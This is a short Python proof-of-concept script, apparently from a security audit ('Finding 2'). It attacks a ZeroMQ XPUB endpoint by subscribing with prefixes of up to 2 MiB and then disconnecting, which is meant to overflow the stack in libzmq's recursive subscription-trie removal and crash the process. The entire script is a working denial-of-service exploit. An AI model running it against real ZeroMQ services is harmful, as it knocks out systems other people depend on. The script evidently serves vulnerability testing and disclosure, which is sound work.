"""Finding 2: one huge subscription prefix sent to an XPUB, then a disconnect (libzmq's
subscription trie is removed recursively: deep enough, the stack overflows)."""

import time

import zmq

from abuse import Attack, arguments, log

options = arguments()
attack = Attack(options)
sizes = [128 * 1024, 512 * 1024, 2 * 1024 * 1024]
for size in sizes:
    subscriber = attack.context.socket(zmq.SUB)
    subscriber.setsockopt(zmq.LINGER, 1000)
    subscriber.setsockopt(zmq.SUBSCRIBE, b"p" * size)
    subscriber.connect(options.events)
    time.sleep(0.7)
    subscriber.close()
    time.sleep(0.5)
    log(f"sent a {size}-byte prefix and disconnected")
attack.finish(prefix_bytes=sizes)
